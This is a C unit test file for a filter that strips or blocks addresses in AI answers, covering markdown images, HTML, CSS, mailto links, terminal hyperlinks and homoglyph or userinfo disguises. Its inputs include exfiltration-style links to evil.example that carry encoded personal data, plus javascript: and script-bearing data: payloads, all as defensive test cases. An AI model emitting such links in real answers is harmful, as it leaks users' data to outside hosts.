/* Addresses in answers: every way in which one can be written, what is known, what is data; the
 * same however the text is cut. The examples are our own. */
#include "base/test.h"
#include "inspect/answer/link.h"

#include <stdlib.h>

#define DATA "?d=cGF0aWVudDogQW5uYSBTY2htaWR0IDE5ODQtMDMtMTIgSVY"

static struct pst_arena arena;
static struct pst_hosts hosts;

static int setup(void **state)
{
    (void)state;
    pst_arena_init(&arena, 1 << 14, 1 << 20);
    pst_hosts_init(&hosts, &arena);
    if (pst_hosts_allow(&hosts, PST_STR("*.corp.example"), NULL) != PST_OK) {
        return -1;
    }
    pst_hosts_learn(&hosts, PST_STR("Please read https://docs.example/guide?x=1."));
    return 0;
}

static int teardown(void **state)
{
    (void)state;
    pst_arena_release(&arena);
    return 0;
}

/* Pushes pieces of `piece` bytes as a lane does; the result in `out`. */
static void run(struct pst_str text, size_t piece, struct pst_links *l, struct pst_buf *out)
{
    size_t done = 0, have = 0;
    pst_links_init(l, &hosts, false);
    do {
        size_t taken = 0;
        have = have + piece < text.n ? have + piece : text.n;
        assert_int_equal(pst_links_push(l, pst_str_cut(text, done, have - done), have == text.n,
                                        &taken, out, NULL),
                         PST_OK);
        done += taken;
        assert_true(have - done <= PST_LINK_MAX + 16);
    } while (have < text.n);
    assert_int_equal(done, text.n);
}

static void check(const char *text, const char *want, uint32_t neutralised, uint32_t blocked)
{
    static const size_t pieces[] = {1 << 20, 1, 2, 3, 7, 16, 33};
    for (size_t i = 0; i < PST_LEN(pieces); i++) {
        struct pst_links l;
        struct pst_buf out;
        pst_buf_init(&out, 1 << 20);
        run(pst_str_c(text), pieces[i], &l, &out);
        (void)pst_buf_byte(&out, 0);
        assert_string_equal((const char *)out.p, want);
        assert_int_equal(l.neutralised, neutralised);
        assert_int_equal(l.blocked, blocked);
        pst_buf_release(&out);
    }
}

static void keep(const char *text)
{
    check(text, text, 0, 0);
}

static void test_known_hosts(void **state)
{
    (void)state;
    keep("![chart](https://docs.example/a.png" DATA ")");
    keep("<img src=\"https://img.eu.corp.example/x" DATA "\">");
    keep("[r]: https://DOCS.example./a\n");
    keep("no links, but a [bracket](see below), a < b and x=\"y\".");
    keep("![local](images/a.png) ![inline](data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAE=)");
    keep("mail [us](mailto:help@corp.example?subject=Hello)");
    keep("style <p style=\"color:red;width:10px\">text</p>");
    keep("vector<int> a(b); if (a<b && s == \"x: y\") { t = 'https'; }");
}

static void test_images(void **state)
{
    (void)state;
    check("See ![a](https://evil.example/p.png) ok", "See ![a](#removed/evil.example) ok", 1, 0);
    check("![a](https://evil.example/p" DATA ")", "![a](#removed/evil.example)", 0, 1);
    check("![a](<https://evil.example/p" DATA "> \"t\")", "![a](<#removed/evil.example> \"t\")", 0,
          1);
    check("![a](\nhttps://evil.example/p)", "![a](\n#removed/evil.example)", 1, 0);
    check("[![a](https://evil.example/i.png)](https://docs.example/)",
          "[![a](#removed/evil.example)](https://docs.example/)", 1, 0);
    check("![a][r]\n\n[r]: https://evil.example/q" DATA "\n",
          "![a][r]\n\n[r]: #removed/evil.example\n", 0, 1);
    check("![a](//evil.example/p)", "![a](#removed/evil.example)", 1, 0);
    check("![a](https://evil.example/a(b)c)", "![a](#removed/evil.example)", 1, 0);
}

static void test_disguises(void **state)
{
    (void)state;
    /* the host before the at sign is user information */
    check("![a](https://docs.example@evil.example/)", "![a](#removed/evil.example)", 0, 1);
    check("![a](https://docs.example\\@evil.example/)",
          "![a](https://docs.example\\@evil.example/)", 0, 0); /* a browser ends the host there */
    check("![a](&#104;ttps&colon;//evil.example/)", "![a](#removed/evil.example)", 1, 0);
    check("<img src='ht\ntps://evil.example/'>", "<img src='#removed/evil.example'>", 1, 0);
    check("![a](https:\\\\evil.example/)", "![a](#removed/evil.example)", 1, 0);
    check("![a](https://docs.example.evil.example/)", "![a](#removed/docs.example.evil.example)", 1,
          0);
    /* the same letters in another script are another host */
    check("![a](https://d\xd0\xbe"
          "cs.example/)",
          "![a](#removed/d__cs.example)", 1, 0);
    check("![a](https://xn--dcs-hdd.example/)", "![a](#removed/xn--dcs-hdd.example)", 1, 0);
    check("[x](javascript:alert(1)) <a href=\"java\nscript:x()\">",
          "[x](#removed) <a href=\"#removed\">", 0, 2);
    check("<iframe src=data:text/html;base64,PHNjcmlwdD4=>", "<iframe src=#removed>", 0, 1);
}

static void test_html_and_css(void **state)
{
    (void)state;
    check("<IMG alt=x SRC = https://evil.example/a.png>", "<IMG alt=x SRC = #removed/evil.example>",
          1, 0);
    check("<img srcset=\"https://docs.example/a 1x, https://evil.example/b 2x\">",
          "<img srcset=\"#removed/docs.example\">", 1, 0);
    check("<p style=\"background:url(https://evil.example/b)\">", "<p style=\"#removed\">", 1, 0);
    check("<style>body{background:url( https://evil.example/b )}</style>",
          "<style>body{background:url( #removed/evil.example )}</style>", 1, 0);
    check("<style>@import 'https://evil.example/b';</style>",
          "<style>@import '#removed/evil.example';</style>", 1, 0);
    check("<a href=\"https://evil.example/p" DATA "\">t</a>",
          "<a href=\"#removed/evil.example\">t</a>", 1, 0);
    keep("<a href=\"https://news.example/story\">t</a>");
    /* what only looks like a tag hides nothing */
    check("if a<b then ![a](https://evil.example/) fi",
          "if a<b then ![a](#removed/evil.example) fi", 1, 0);
}

static void test_text_links(void **state)
{
    (void)state;
    keep("[story](https://news.example/2024/05/a-long-title-with-many-words-in-it.html)");
    keep("See https://news.example/a?id=12&page=2, and www.other.example.");
    check("[click](https://evil.example/c" DATA ")", "[click](#removed/evil.example)", 1, 0);
    check("go to https://evil.example/c" DATA ".", "go to [address removed: evil.example].", 1, 0);
    check("<https://evil.example/?q=my+name+is+anna+and+i+live>",
          "<[address removed: evil.example]>", 1, 0);
    check("www.evil.example/" DATA, "[address removed: www.evil.example]", 1, 0);
    /* data in the name itself leaves when it is looked up; it is not repeated */
    check("![a](https://mzxw6ytboi4dkmbygiztsmrygi3tsnbq.evil.example/)", "![a](#removed)", 0, 1);
    check("\x1b]8;;https://evil.example/" DATA "\x07here\x1b]8;;\x07",
          "\x1b]8;;[address removed: evil.example]\x07here\x1b]8;;\x07", 1, 0);
    check("mail [x](mailto:a@evil.example?body=the+secret+word+is+swordfish+today)",
          "mail [x](#removed)", 1, 0);
}

static void test_long(void **state)
{
    (void)state;
    struct pst_links l;
    struct pst_buf text, out[2];
    pst_buf_init(&text, 1 << 16);
    (void)PST_BUF_LIT(&text, "a ![x](https://evil.example/");
    for (size_t i = 0; i < 5000; i++) {
        (void)pst_buf_byte(&text, (uint8_t)('a' + i % 26));
    }
    (void)PST_BUF_LIT(&text, ") b <p alt=\"");
    for (size_t i = 0; i < 5000; i++) {
        (void)pst_buf_byte(&text, i % 7 == 0 ? ' ' : 'w');
    }
    (void)PST_BUF_LIT(&text, " ![y](https://evil.example/)\"> c");
    for (size_t i = 0; i < 2; i++) {
        pst_buf_init(&out[i], 1 << 16);
        run(pst_buf_str(&text), i == 0 ? 1 << 16 : 11, &l, &out[i]);
        assert_int_equal(l.blocked, 1);
        assert_int_equal(l.neutralised, 1);
        assert_true((l.why & PST_LINK_WHY_LONG) != 0);
        assert_true(pst_str_starts(pst_buf_str(&out[i]), PST_STR("a ![x](#removed) b <p alt=\"")));
        assert_true(
            pst_str_ends(pst_buf_str(&out[i]), PST_STR("![y](#removed/evil.example)\"> c")));
    }
    assert_true(pst_str_eq(pst_buf_str(&out[0]), pst_buf_str(&out[1])));
    pst_buf_release(&text);
    pst_buf_release(&out[0]);
    pst_buf_release(&out[1]);
}

/* Hostile shapes cost linear time and hold nothing. */
static void test_brackets(void **state)
{
    (void)state;
    struct pst_links l;
    struct pst_buf text, out;
    pst_buf_init(&text, 1 << 20);
    pst_buf_init(&out, 1 << 20);
    for (size_t i = 0; i < 100000; i++) {
        (void)PST_BUF_LIT(&text, "![");
    }
    (void)PST_BUF_LIT(&text, "](https://evil.example/)");
    run(pst_buf_str(&text), 997, &l, &out);
    assert_int_equal(l.neutralised, 1);
    pst_buf_release(&text);
    pst_buf_release(&out);
}

static void test_full(void **state)
{
    (void)state;
    struct pst_links l;
    struct pst_buf out;
    struct pst_err err = {0};
    size_t taken = 0;
    pst_links_init(&l, &hosts, true);
    pst_buf_init(&out, 4);
    assert_int_equal(pst_links_push(&l, PST_STR("too long"), true, &taken, &out, &err), PST_ERR);
    assert_int_equal(err.code, PST_E_LIMIT);
    pst_buf_release(&out);
    pst_buf_init(&out, 400);
    pst_links_init(&l, &hosts, true);
    assert_int_equal(
        pst_links_push(&l, PST_STR("[a](https://news.example/)"), true, &taken, &out, &err),
        PST_OK);
    assert_int_equal(l.neutralised, 1); /* strict: a click needs a known host too */
    pst_buf_release(&out);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test_setup_teardown(test_known_hosts, setup, teardown),
        cmocka_unit_test_setup_teardown(test_images, setup, teardown),
        cmocka_unit_test_setup_teardown(test_disguises, setup, teardown),
        cmocka_unit_test_setup_teardown(test_html_and_css, setup, teardown),
        cmocka_unit_test_setup_teardown(test_text_links, setup, teardown),
        cmocka_unit_test_setup_teardown(test_long, setup, teardown),
        cmocka_unit_test_setup_teardown(test_brackets, setup, teardown),
        cmocka_unit_test_setup_teardown(test_full, setup, teardown),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
